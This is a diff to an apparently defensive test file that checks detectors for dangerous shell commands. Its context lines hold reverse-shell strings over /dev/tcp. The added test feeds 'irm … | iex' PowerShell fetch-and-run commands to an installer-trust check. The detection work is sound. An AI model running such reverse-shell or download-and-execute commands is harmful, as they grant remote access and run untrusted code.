@@ -1,5 +1,7 @@
+import { readFileSync } from 'node:fs';
 import fc from 'fast-check';
 import { describe, expect, test } from 'vitest';
+import { isInstaller } from '../../../src/rules/detectors/addresses/trust.ts';
 import { destruction } from '../../../src/rules/detectors/commands/deleting/destruction.ts';
 import { wholesaleDeletions } from '../../../src/rules/detectors/commands/deleting/wholesale.ts';
 import { connectedShells } from '../../../src/rules/detectors/commands/running/connected-shell.ts';
@@ -170,6 +172,18 @@ describe('a shell tied to a connection', () => {
     for (const shell of ['sh -i <> /dev/tcp/203.0.113.7/1 >&0', 'exec 5<>/dev/tcp/203.0.113.7/1; cat <&5 | sh >&5'])
       expect(reverseShells(shell)).toHaveLength(1);
   });
+});
+
+test('the projects whose installers CMD-011 leaves to PowerShell are known for them everywhere', () => {
+  const pack = readFileSync('rules/command-execution.yaml', 'utf8');
+  const rule = pack.slice(pack.indexOf('- id: CMD-011'), pack.indexOf('- id: CMD-012'));
+  const lists = [...rule.matchAll(/\(\?:\\w\{1,9\}\\\.\)\?\(\?:([^)]+)\)/g)].map(([, list = '']) => list);
+  expect(lists).toHaveLength(2);
+  expect(lists[0]).toBe(lists[1]);
+  for (const host of (lists[0] ?? '').replaceAll('\\', '').split('|')) {
+    expect(isInstaller(`irm https://${host}/install.ps1 | iex`), host).toBe(true);
+  }
+  expect(isInstaller('irm https://files.collect.test/install.ps1 | iex')).toBe(false);
 });
 
 describe('fetched and run', () => {
